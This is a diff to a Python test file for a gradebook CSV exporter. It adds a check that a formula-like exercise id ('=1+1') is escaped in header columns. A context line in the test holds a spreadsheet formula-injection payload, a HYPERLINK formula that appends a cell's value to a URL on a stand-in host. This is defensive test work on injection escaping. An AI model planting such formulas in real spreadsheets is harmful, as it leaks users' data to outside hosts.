@@ -129,6 +129,14 @@ def test_hostile_or_odd_files_are_rows_not_tracebacks(tmp_path):
     assert rows["gus.json"]["flags"] == f"exercise {os.path.basename(DIRS[0])[:2]} graded twice", rows["gus.json"]
     assert rows["hal.json"]["student"] == "'" + '=HYPERLINK("http://example.org/?"&A1,"grades")'
     assert rows["hal.json"][f"{os.path.basename(DIRS[2])[:2]} status"] == "not filled"  # plain cells as they were
+    (tmp_path / "other").mkdir()
+    odd = json.loads(result("Ivy", path=tmp_path / "other" / "ivy.json").read_text(encoding="utf-8"))
+    odd["exercises"][2]["id"] = "=1+1"  # an exercise id of the file's own: it names columns of the header
+    odd["seal"] = check.seal(odd)
+    (tmp_path / "other" / "ivy.json").write_text(json.dumps(odd), encoding="utf-8")
+    gradebook.gradebook(str(tmp_path / "other"), str(tmp_path / "odd"), out=lambda line: None)
+    header = read_csv(tmp_path / "odd.csv")["ivy.json"]
+    assert "'=1+1 status" in header and "=1+1 status" not in header
 
 
 def test_the_command_verifies_with_the_signing_key_and_says_where_it_wrote(tmp_path):
